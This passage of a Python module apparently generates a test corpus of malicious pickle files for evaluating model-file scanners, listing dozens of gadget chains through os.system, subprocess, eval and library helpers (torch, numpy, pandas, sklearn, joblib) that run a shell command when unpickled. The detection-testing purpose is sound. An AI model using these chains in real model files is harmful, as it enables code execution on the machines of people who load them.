        id="chain-thread", node=_call("_thread:start_new_thread", system, (SHELL,)), proven=False
    )
    yield Gadget(id="chain-signal", node=_call("signal:signal", 10, system), proven=False)
    yield Gadget(
        id="chain-property",
        node=_call("builtins:property.__get__", _call("builtins:property", system), SHELL),
    )
    yield Gadget(id="chain-lru_cache", node=Call(_call("functools:lru_cache", system), (SHELL,)))
    yield Gadget(id="chain-vectorize", node=Call(_call("numpy:vectorize", system), ([SHELL],)))
    yield Gadget(
        id="chain-frompyfunc", node=Call(_call("numpy:frompyfunc", system, 1, 1), ([SHELL],))
    )
    yield Gadget(
        id="chain-apply_along_axis",
        node=_call("numpy:apply_along_axis", _ref("builtins:print"), 0, [1]),
        proven=False,
    )
    yield Gadget(
        id="chain-fromiter",
        node=_call("numpy:fromiter", _call("builtins:map", system, [SHELL]), "int64"),
    )
    yield Gadget(
        id="chain-logger", node=_call("logging:Handler.handleError", None, None), proven=False
    )
    yield Gadget(id="chain-codecs", node=_call("codecs:encode", b"x", "zlib"), proven=False)
    yield Gadget(id="chain-codecs-register", node=_call("codecs:register", system), proven=False)
    yield Gadget(
        id="chain-copyreg-pickle",
        node=_call("copyreg:add_extension", "os", "system", 77),
        proven=False,
    )
    yield Gadget(id="chain-sys.settrace", node=_call("sys:settrace", system), proven=False)
    yield Gadget(id="chain-setattr", node=_call("builtins:setattr", _OS, "x", 1), proven=False)
    yield Gadget(
        id="chain-type",
        node=_call("builtins:type", "T", (), Call(Ref("builtins", "dict"))),
        proven=False,
    )
    yield Gadget(
        id="chain-submit",
        node=_call(
            "concurrent.futures:ThreadPoolExecutor.submit",
            _call("concurrent.futures:ThreadPoolExecutor", 1),
            system,
            SHELL,
        ),
    )
    yield Gadget(id="chain-timer", node=_call("threading:Timer", 0, system, [SHELL]), proven=False)
    yield Gadget(
        id="chain-contextlib",
        node=_call("contextlib:ExitStack.callback", _call("contextlib:ExitStack"), system, SHELL),
        proven=False,
    )
    yield Gadget(
        id="chain-exitstack-close", node=_call("unittest.mock:_patch_stopall"), proven=False
    )
    yield Gadget(id="chain-sched", node=_call("sched:scheduler"), proven=False)
    yield Gadget(
        id="chain-rebuild-parameter-hook",
        node=_call(
            "torch._utils:_rebuild_parameter_with_state",
            [1],
            False,
            Call(Ref("collections", "OrderedDict")),
            _OS,
        ),
        proven=False,
    )
    yield Gadget(
        id="chain-rebuild-from-type",
        node=_call(
            "torch._tensor:_rebuild_from_type_v2", system, _ref("builtins:str"), (SHELL,), None
        ),
    )
    yield Gadget(
        id="chain-reconstructor",
        node=_call(
            "copyreg:_reconstructor", _ref("subprocess:Popen"), _ref("builtins:object"), None
        ),
        proven=False,
    )
    yield Gadget(
        id="chain-newobj-popen",
        node=_call("copyreg:__newobj__", _ref("io:FileIO"), MARKER_NAME, "w"),
        proven=False,
    )
    yield Gadget(
        id="chain-sklearn-funct",
        node=_call("sklearn.preprocessing:FunctionTransformer", system),
        proven=False,
    )
    yield Gadget(
        id="chain-sklearn-transform",
        node=_call(
            "sklearn.preprocessing:FunctionTransformer.transform",
            _call("sklearn.preprocessing:FunctionTransformer", system),
            SHELL,
        ),
    )
    yield Gadget(
        id="chain-joblib-delayed",
        node=_call(
            "joblib.parallel:BatchedCalls.__call__",
            _call(
                "joblib.parallel:BatchedCalls",
                [(system, (SHELL,), Call(Ref("builtins", "dict")))],
                None,
            ),
        ),
        proven=False,
    )
    yield Gadget(
        id="chain-pandas-apply",
        node=_call("pandas:Series.apply", _call("pandas:Series", [SHELL]), system),
    )
    yield Gadget(
        id="chain-pandas-map",
        node=_call("pandas:Series.map", _call("pandas:Series", [SHELL]), system),
    )
    yield Gadget(id="chain-pandas-pipe", node=_call("pandas.core.common:pipe", SHELL, system))
    yield Gadget(
        id="chain-pandas-apply_if_callable",
        node=_call("pandas.core.common:apply_if_callable", system, SHELL),
    )
    yield Gadget(
        id="chain-scipy-quad", node=_call("scipy.integrate:quad", system, 0, 1), proven=False
    )
    yield Gadget(
        id="chain-scipy-optimize",
        node=_call("scipy.optimize:brute", system, ((0, 1),)),
        proven=False,
    )


def _extended(function: Ref) -> Node:
    """Return a list that is extended by an object with the method `extend`."""
    return Call(
        Ref("builtins", "list.extend"), ([], Call(Ref("builtins", "map"), (function, [SHELL])))
    )


def _reach() -> Iterator[Gadget]:
    """Yield the imports of the standard library through which `os.system` and the like are reached."""
    skipped = {
        "antigravity",
        "this",
        "idlelib",
        "turtledemo",
        "lib2to3",
        "test",
        "turtle",
        "tkinter",
        "__main__",
        "builtins",
        "os",
        "posix",
        "subprocess",
    }
    for name in sorted(set(sys.stdlib_module_names) - skipped):
        module = _imported(name)
        if module is None:
            continue
        for alias, value in sorted(vars(module).items()):
            if not isinstance(value, ModuleType):
                continue
            if value.__name__ == "os":
                yield Gadget(
                    id=f"reach-{name}-{alias}.system", node=_call(f"{name}:{alias}.system", SHELL)
                )
            elif value.__name__ == "subprocess":
                yield Gadget(
                    id=f"reach-{name}-{alias}.getoutput",
                    node=_call(f"{name}:{alias}.getoutput", SHELL),
                )
            elif value.__name__ == "builtins":
                yield Gadget(
                    id=f"reach-{name}-{alias}.eval", node=_call(f"{name}:{alias}.eval", PYTHON)
                )
            elif value.__name__ == "sys":
                modules = _ref(f"{name}:{alias}.modules")
                node = _call(
                    "builtins:getattr", _call("builtins:dict.get", modules, "os"), "system"
                )
                yield Gadget(id=f"reach-{name}-{alias}.modules", node=Call(node, (SHELL,)))
    for dotted in (
        "torch.serialization:os.system",
        "torch.hub:os.system",
        "numpy.ctypeslib:os.system",
        "numpy.lib._npyio_impl:os.system",
        "joblib.disk:os.system",
        "joblib.memory:os.system",
        "sklearn.datasets._base:os.system",
        "pandas.io.common:os.system",
        "scipy._lib._util:os.system",
        "joblib.numpy_pickle:os.system",
        "sklearn.utils._show_versions:os.system",
        "torch:os.system",
        "torch.storage:warnings.sys.modules",
    ):
        yield Gadget(
            id=f"reach-{dotted.replace(':', '-')}",
            node=_call(dotted, SHELL),
            proven=dotted.endswith("os.system"),
        )


def _imported(name: str) -> ModuleType | None:
    try:
        return importlib.import_module(name)
    except (ImportError, OSError):
        return None


def _objects() -> Iterator[Gadget]:
    """Yield what does harm by a class of its own: BUILD, items, and imports that act."""
    yield Gadget(id="import-antigravity", node=Ref("antigravity", "fly"))
    yield Gadget(id="import-this", node=Ref("this", "s"), proven=False)
    yield Gadget(
        id="build-class-attribute",
        references=("PickleBall",),
        proven=False,
        node=Build(
            Ref("collections", "OrderedDict"),
            Items(Call(Ref("builtins", "dict")), (("__reduce__", Ref("os", "system")),)),
        ),
    )
    yield Gadget(
        id="build-module-dict",
        proven=False,
        node=Items(Ref("os", "__dict__"), (("getcwd", Ref("os", "system")),)),
    )
    yield Gadget(
        id="items-sys-modules",
        proven=False,
        node=Items(Ref("sys", "modules"), (("json", Ref("os", "system")),)),
    )
    yield Gadget(id="items-environ", node=Items(Ref("os", "environ"), (("WEIGHBRIDGE_X", "1"),)))
    yield Gadget(
        id="build-sys-modules-chain",
        references=("modelscan 89",),
        node=(
            Build(Ref("functools", "wraps"), (None, Ref("collections", "_sys.modules"))),
            Call(Ref("functools", "wraps.os.system"), (SHELL,)),
        ),
    )


def gadgets() -> Iterator[Gadget]:
    """Yield every gadget."""
    for source in (
        _commands,
        _evaluators,
        _unpicklers,
        _files,
        _connections,
        _indirect,
        _reach,
        _objects,
    ):
        yield from source()


def samples() -> Iterator[Sample]:
    """Yield a file for each gadget; the twin holds the same words as data."""
    seen: set[str] = set()
    for number, gadget in enumerate(gadgets()):
        identifier = gadget.id if gadget.id not in seen else f"{gadget.id}-{number}"
        seen.add(identifier)
        dotted = any("." in ref.name for ref in _references(gadget.node))
        protocol = (4, 5)[number % 2] if dotted else (4, 2, 0, 3, 5)[number % 5]
        yield single(
            f"gadget-{identifier}".replace("/", "-"),
            GROUP,
            "model.pkl",
            stream(gadget.node, protocol=protocol),
            loaders=_LOADERS if gadget.proven else (),
            twin=stream(as_data(gadget.node), protocol=protocol),
            references=gadget.references,
        )


def _references(node: Node) -> Iterator[Ref]:
    """Yield every name in *node*; only protocol 4 and above take a dotted one apart."""
    match node:
        case Ref():
            yield node
        case Call():
            yield from _references(node.target)
            for item in node.args:
                yield from _references(item)
        case Build():
            yield from _references(node.target)
            yield from _references(node.state)
        case Items():
            yield from _references(node.target)
            for pair in node.pairs:
                for item in pair:
                    yield from _references(item)
        case tuple() | list():
            for item in node:
                yield from _references(item)
        case _:
            return


def as_data(node: Node) -> Node:
    """Return *node* with every name and call as a tuple of words, and bytes backwards."""
    match node:
        case bytes():
            # They may be a payload themselves, for whoever unpickles them later.
            return node[::-1]
        case Ref():
            return ("name", node.module, node.name)
        case Call():
            return ("call", as_data(node.target), tuple(as_data(a) for a in node.args))
        case Build():
            return ("build", as_data(node.target), as_data(node.state))
        case Items():
            return (
                "items",
                as_data(node.target),
                tuple((as_data(k), as_data(v)) for k, v in node.pairs),
            )
        case tuple():
            return tuple(as_data(item) for item in node)
        case list():
            return [as_data(item) for item in node]
        case _:
            return node
